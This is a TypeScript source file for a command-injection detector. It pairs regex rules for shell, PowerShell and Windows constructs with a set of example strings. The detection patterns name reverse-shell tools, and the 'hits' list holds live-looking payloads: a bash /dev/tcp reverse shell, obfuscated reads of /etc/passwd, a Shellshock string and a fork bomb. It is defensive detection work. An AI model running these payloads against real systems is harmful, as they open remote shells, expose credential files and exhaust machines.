import { ambiguousCommands, commandFamily, commands } from './commands.ts'
import type { PatternRule, PayloadGrammar, PayloadHit } from './grammar.ts'
import { firstMatch } from './grammar.ts'
import { isProse } from './prose.ts'
import { hasGlobbedPath, splicesVariables, withoutSplices } from './shell-splice.ts'

const kind = 'command-injection'

/** Constructs that are shell or interpreter code wherever they stand. */
const rules: readonly PatternRule[] = [
  ['function-import', 0.98, /\(\s?\)\s?\{\s?[:_]\s?;?/],
  ['field-separator', 0.97, /\$\{?ifs\b/],
  [
    'system-file',
    0.9,
    /(?:^|[\s;|&`])(?:cat|more|less|head|tail|type|nl|tac|od|strings|grep|vi|cp|mv|rm)\s+(?:-\S+\s+)?\S{0,40}\/(?:etc|proc|var|root|home|tmp)\b/,
  ],
  [
    'shell-arithmetic',
    0.93,
    /\$\(\(\s?(?:\d{1,20}\s?[*+-]|\d{1,20}\s?\)\)|\$\()|\$\[\s?\d{1,20}\s?[*+-]\s?\d{1,20}\s?\]/,
  ],
  [
    'reverse-shell',
    0.97,
    /\/dev\/(?:tcp|udp)\/|\bnc\s+(?:-\S+\s+)+|\bbash\s+-[ic]\b|\bsh\s+-[ic]\b|powershell(?:\.exe)?\s+-|\d>\s?\$\w{1,16}\/(?:tcp|udp)/,
  ],
  [
    'windows-loop',
    0.95,
    /\bfor\s+(?:\/[dlrf]\s+){0,2}(?:"[^"]{0,80}"\s+|'[^']{0,80}'\s+|[^\s%]{1,64}\s+)?%{1,2}(?:[\w~@]{1,16}|[^\w\s]{0,2})\s+in\s*\(/,
  ],
  [
    'windows-condition',
    0.93,
    /\bif\s+(?:\/i\s+)?(?:not\s+)?(?:exist\s+\S|defined\s+\w|errorlevel\s+\d|cmdextversion\s+\d|"[^"\s]{0,40}"\s?==\s?"|%\w{1,40}%\s?==|\S{1,40}\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S|\[%?\w{1,16}\]\s?==|\(%?\w{1,40}\)\s?==\s?\()/,
  ],
  [
    'powershell',
    0.95,
    /\b(?:invoke-(?:webrequest|expression|command|item|restmethod|wmimethod)|start-process|new-object\s+(?:system|net)\.|get-wmiobject|set-executionpolicy|frombase64string|downloadstring\(|add-type\s+-)|\biex\s?\(|\biwr\s+(?:-|https?:)|\biwmi\s+-|-enc(?:odedcommand)?\s+[a-z\d+/=]{16}/,
  ],
  [
    'windows-condition',
    0.85,
    /\bif\s+(?:\/i\s+)?[\w%/]{1,24}==[\w%/?]{1,24}\s+(?:echo|goto|call|set|cmd|del|copy|exit|start|cd|md|rd|type)\b/,
  ],
  [
    'wrapper-option',
    0.88,
    /\s-wrapper\s+\w{1,16},|\s--(?:checkpoint-action|to-command|use-compress-program|rsh|pre-invoke|use-askpass)[= ]\S/,
  ],
  ['windows-condition', 0.85, /\bif\s+(?:\/i\s+)?not\s+[\w"'%()[\]]{1,40}\s?={2,3}\s?\S/],
  ['windows-shell', 0.93, /\bcmd(?:\.exe)?\s?\/[ck]\b|%(?:comspec|systemroot|windir)%|\bset\s\/a\s/],
]

/** The same of what reads less surely: among sentences it is only a sign. */
const likely: readonly PatternRule[] = [
  [
    'shell-path',
    0.95,
    /(?:^|[\s;|&`'"(=<>$@])\/?(?:usr\/(?:local\/)?)?s?bin\/(?:[a-z][\w-]*(?!\.[a-z])(?![\w-])|[?*\w]*[?*])/,
  ],
  [
    'brace-expansion',
    0.85,
    /\{,[^\s{}:]{1,40}\}|\{[^\s{}:"]{1,40},\}|\{[\w/?]{1,16},-[^\s{}]{1,32}\}|[a-z]\{[a-z]{1,8},[a-z-]{1,8}\}[a-z]|\{[a-z]{1,8},-[a-z]{1,8}\}[a-z]|\{,[a-z][\w-]{0,30}[,}]/,
  ],
  ['process-substitution', 0.8, /(?:^|[\s=])[<>]\([a-z]{2,}[^)]{0,60}\)/],
  ['function-import', 0.9, /^\s?\(\s?\)\s?\{/],
  ['function-definition', 0.9, /\(\s?\)\s?\{[^}&|]{0,48}(?:[^|&]\|[^|]|&\s?[;\w}])[^}]{0,48}\}\s?;?/],
  [
    'shell-variable',
    0.85,
    /\$\{?(?:shell|bash|hosttype|ostype|oldpwd|pwd|path|home|user|hostname|random|euid|uid|ps[1-4])\b(?!\s?\})|\$\{?(?:shell|bash|hosttype|ostype)\b|\$\{?#?\d?\w{1,16}(?::\d|%%|##|\/\/)/,
  ],
  ['interpreter-option', 0.85, /(?:^|[\s;|&`])(?:python[\d.]{0,5}|perl|ruby|php|node|lua)\s+-[cer]\b/],
  ['alias', 0.8, /(?:^|[\s;|&\n])alias\s+(?:[-+]\w?\+?\s+)?['"]?[\w.-]{1,32}['"]?=\S/],
  ['here-string', 0.85, /[a-z]\s?<<<\s?\S/],
  [
    'database-shell',
    0.85,
    /[;'"]\s{0,4}(?:\\n)?\s{0,4}\.\\?['"]?\s?(?:shell|sh|system|databases|dbinfo|tables|schema|dump|load|import|output|once|read|open|backup|restore|archive|excel|log|clone|save)\b/,
  ],
  ['history', 0.65, /^(?:!-?\d{1,3}){1,4}$|^!![\w:^$*-]{0,16}$/],
  ['windows-condition', 0.6, /^\s?if(?:\/i)?\s+(?:\/i\s+)?(?:not\s+)?[^\s=][^=]{0,24}==\s?\S/],
  ['directory-stack', 0.6, /^~[+-]\d{0,2}$|^~\d{1,2}$/],
]

const separators = /[;|&\n\r`]|\$\(|\{(?=[a-z])|[<>]\(/g
/** Programs that run the one named behind them. */
const runner =
  /^(?:time|sudo|nohup|env(?:\s+\w{1,32}=\S{0,64})?|nice(?:\s+-n\s+\d{1,3})?|command|builtin|busybox|setsid|stdbuf\s+-\S{1,8}|timeout\s+[\d.]{1,8}[smhd]?|xargs|doas|unbuffer)\s+(?=\S)/

/** A command line at `text`: the program is known, and what follows could be its arguments. */
function commandAt(text: string, tight = false): number {
  const cut = text.slice(0, 256)
  const line = withoutSplices(cut)
    .trimStart()
    .replace(/^[+(!@]{1,4}/, '')
    .trimStart()
  const run = runner.exec(line)
  if (run !== null) {
    const behind = commandAt(line.slice(run[0].length))
    if (behind > 0) return behind
  }
  const end = line.search(/[\s;|&`<>(){}$,+]/)
  const path = end === -1 ? line : line.slice(0, end)
  const name = path
    .slice(path.lastIndexOf('/') + 1)
    .replace(/\)+$/, '')
    .replace(/(?<=[a-z])\d[\d.]{0,5}$/, match => (match.length > 1 ? '' : match))
  if (!commands.has(name) && !commandFamily.test(name)) return 0
  const rest = end === -1 ? '' : line.slice(end)
  const spliced =
    line.length < cut.trimStart().length && /^\W?[a-z]{1,16}(?:['"\\^]|\$|``)/.test(cut.trimStart())
  if (!ambiguousCommands.has(name)) return rest === '' || /^[\s;|&`<>()$+]/.test(rest) ? 0.9 : 0
  if (spliced) return 0.85
  const argument = rest.trimStart().replace(/^,/, '')
  if (argument === '' || /^[;|&`<>)]/.test(argument)) return tight ? 0.8 : 0
  if (
    /^(?:-{1,2}[\w]|\/|\.{1,2}\/|\$|\d{1,3}(?:\.\d{1,3}){3}|\*|~|%|["'`]|[a-z]:)/.test(
      argument.replace(/^\++/, ''),
    )
  )
    return 0.88
  if (/^(?:passwd|shadow|gshadow|sudoers|authorized_keys|id_[rd]sa|\.bash_history|\.ssh\b)/.test(argument))
    return 0.88
  if (/^\+/.test(rest)) return 0.75
  if (name === 'sleep' || name === 'ping' || name === 'timeout')
    return /^[\d\w.-]+\s*(?:$|[;|&#`)])/.test(argument) ? 0.85 : 0
  return name === 'echo' ? (/^[\w$-]+\s*(?:$|[;|&>`])/.test(argument) ? 0.75 : 0) : 0
}

/** Command lines behind the separators of a shell. */
function chained(lower: string): number {
  let best = 0
  let tried = 0
  for (const separator of lower.matchAll(separators)) {
    tried += 1
    if (tried > 256) break
    // `a & b` in prose has a space on both sides and no program after it; `&amp;` and `?a=1&id=2` are not command lines.
    const at = separator.index + separator[0].length
    if (separator[0] === '&' && /^[\w.[\]-]+=/.test(lower.slice(at, at + 64))) continue
    if (separator[0] === '\n' || separator[0] === '\r') {
      const found = commandAt(lower.slice(at, at + 256))
      if (
        found >= 0.88 &&
        best < 0.75 &&
        !isProse(lower.slice(at, at + 256)) &&
        /^\s*[\w./]+\s+(?:-\w|\/\w|https?:|\d{1,3}(?:\.\d{1,3}){3}|\$)/.test(lower.slice(at, at + 256))
      )
        best = 0.75
      continue
    }
    // Markdown marks code with backticks: a program named in a sentence is no command.
    const named = separator[0] === '`' && separator.index > 0 && lower[separator.index - 1] === ' '
    const tight = separator.index < 4 || (lower[at] !== ' ' && !named)
    const confidence = named
      ? Math.min(0.45, commandAt(lower.slice(at, at + 256)))
      : commandAt(lower.slice(at, at + 256), tight)
    // `Anna; curl cream`: a word of the language, and words behind it.
    const worded =
      lower[at] === ' ' &&
      /^ [a-z]{2,16}(?: [a-z]{2,24}){1,20}[.,;!?)]?\s?(?:$|[\n;])/.test(lower.slice(at, at + 128))
    if (confidence > best) best = worded ? Math.max(best, Math.min(0.45, confidence)) : confidence
  }
  return best
}

/** A value that begins as a command line does. */
function leading(lower: string): number {
  const found = commandAt(lower)
  if (found >= 0.88 && /\s(?:-{1,2}\w|\/\w|\d{1,3}\.\d{1,3}\.\d{1,3}\.|[a-z]:|https?:)/.test(lower))
    return 0.8
  const trimmed = lower.trim()
  const word = /^[a-z0-9_.+-]{1,32}/.exec(trimmed)?.[0] ?? ''
  const raw = trimmed.slice(0, 48)
  // Quotes and empty expansions within the word hide it from everybody but a shell.
  if (
    word !== '' &&
    found > 0 &&
    /^[a-z0-9"'\\$^@!?_`*-]{2,48}/.test(raw) &&
    /[a-z0-9](?:["'\\^]{1,2}|\$[@*!?$_-]|``|\$[a-z](?=[^a-z]))[a-z0-9.\s"]/.test(raw) &&
    !/^[a-z]{1,12}['"]s?\s/.test(raw)
  )
    return 0.8
  const statement = /^([a-z]{1,16});$/.exec(trimmed)
  if (statement !== null && commands.has(statement[1]!)) return 0.6
  if (found === 0) return 0
  const unusual = !ambiguousCommands.has(word)
  if (unusual && found >= 0.88) return /\s/.test(trimmed) ? 0.55 : 0.4
  return runner.test(trimmed) ? 0.55 : 0.25
}

function inspect(value: string, lower: string): PayloadHit | undefined {
  const strong = firstMatch(kind, rules, lower)
  if (strong !== undefined) return strong
  const prose = isProse(lower)
  const some = firstMatch(kind, likely, lower)
  if (some !== undefined && !prose) return some
  if (splicesVariables(lower)) return { kind, rule: 'variable-splice', confidence: prose ? 0.4 : 0.88 }
  if (hasGlobbedPath(lower)) return { kind, rule: 'globbed-path', confidence: prose ? 0.4 : 0.88 }
  const best = chained(lower)
  if (best >= 0.5) return { kind, rule: 'chained-command', confidence: best }
  const first = prose ? 0 : leading(lower)
  if (first > 0) return { kind, rule: 'command-line', confidence: first }
  if (value.length < 512) {
    const spliced = withoutSplices(lower)
    if (spliced !== lower) {
      const again = firstMatch(kind, rules, spliced)
      if (again !== undefined) return { ...again, confidence: again.confidence - 0.05 }
      if (
        /(?:^|[\s;|&+])\S{0,40}\/etc\/(?:passwd|shadow|hosts|group)/.test(spliced) &&
        !lower.includes('/etc/')
      )
        return { kind, rule: 'spliced-path', confidence: 0.9 }
    }
  }
  if (some !== undefined) return { ...some, confidence: 0.4 }
  return best > 0 ? { kind, rule: 'chained-command', confidence: best } : undefined
}

export const commandInjection: PayloadGrammar = {
  kind,
  triggers: [
    ';',
    '|',
    '&',
    '`',
    '$',
    '\n',
    '\r',
    '/bin',
    '/etc',
    '/dev/',
    ' -',
    '(',
    '%comspec',
    '%windir',
    'cmd',
    'python',
    'ping',
    'powershell',
    '+/',
    ' /',
    'invoke-',
    '{',
    ']/',
    '?/',
    '*/',
    '/?',
    '/*',
    '/[',
    'if/',
    'aa-',
    ',}',
    ',-',
    'start-process',
    '%',
    // Of conditions: `if` itself is a word of every text.
    '==',
    'exist',
    'defined',
    'errorlevel',
    'cmdextversion',
    ' equ',
    '\tequ',
    'neq',
    'lss',
    ' leq',
    '\tleq',
    'gtr',
    'geq',
    'bin/',
    'alias',
    '-wrapper',
    '--',
    '~',
    '!',
    '^',
    '\\',
    "''",
    '""',
    'time ',
    'nohup',
    'sudo ',
    'exec',
    'set-exec',
    'strace ',
    'ansible',
    'chef',
    'downloadstring',
    'frombase64',
  ],
  inspect,
  examples: {
    hits: [
      '; cat /etc/passwd',
      '|id',
      'a;/usr/bin/id',
      '`id`',
      '$(whoami)',
      '127.0.0.1 && ls /etc',
      'ping -i 30 127.0.0.1',
      '() { :; }; echo vulnerable',
      ";c'a't /et'c/pa'ss'wd",
      ';getent$IFS$9hosts',
      '| /bin/sleep 31 ;',
      'x & ping -n 31 127.0.0.1 &',
      '/bin/bash -i >& /dev/tcp/1.2.3.4/9 0>&1',
      '|dir c:\\',
      '{cat,/etc/hosts}',
      'cmd /c whoami',
      'for %x in (set) do command',
      'if exist c:\\a',
      'Invoke-WebRequest http://example.com/x.ps1',
      '{,ifconfig}',
      '<(cmd)',
      'a=/etc&&b=/passwd&&c=cat&&$c $a$b',
      '/b?n/c?t /e?c/pas[s]wd',
      'cu$@rl example.com',
      ';c$!at /et$!c/pas$!swd',
      'f(){ f|f& };f',
      '{id,}',
      'time ifconfig',
      'id;',
    ],
    misses: [
      'Tom & Jerry',
      'read; think; act',
      'R&D; sales & more',
      'a | b',
      'salt & pepper; sort of',
      'cats and dogs',
      'find me a table for 2',
      'AT&T',
      'a=1&id=2&sort=asc',
      'US$ 20 (about $19)',
      'sleep well; id card',
      'cat & dog',
      'we ping you; more later',
      'the head of sales',
      '`code` in markdown',
      'echo of the past',
      'i++; j--',
      'first line\nsecond line',
      'Note:\ntime is short',
      'text/html;charset=utf-8',
      'en-US,en;q=0.9',
      'user@example.com; other@example.com',
      'fish & chips',
      'ID; name',
      'Main Street 5\n Apt. 656\n Springfield',
      'Main Street 5\nApt 656\nSpringfield',
      '/bin/querybuilder.json',
      'bot (compatible; snap; +http://example.com)',
      'if you like it, 100% yes',
      'sold (in stock)("new") today',
      'the system (new) is up',
      'function() { return 1 }',
      '{a,b}',
      '(555) 123-4567',
      'x <(y)',
      'cost: $x (approx.)',
    ],
  },
}
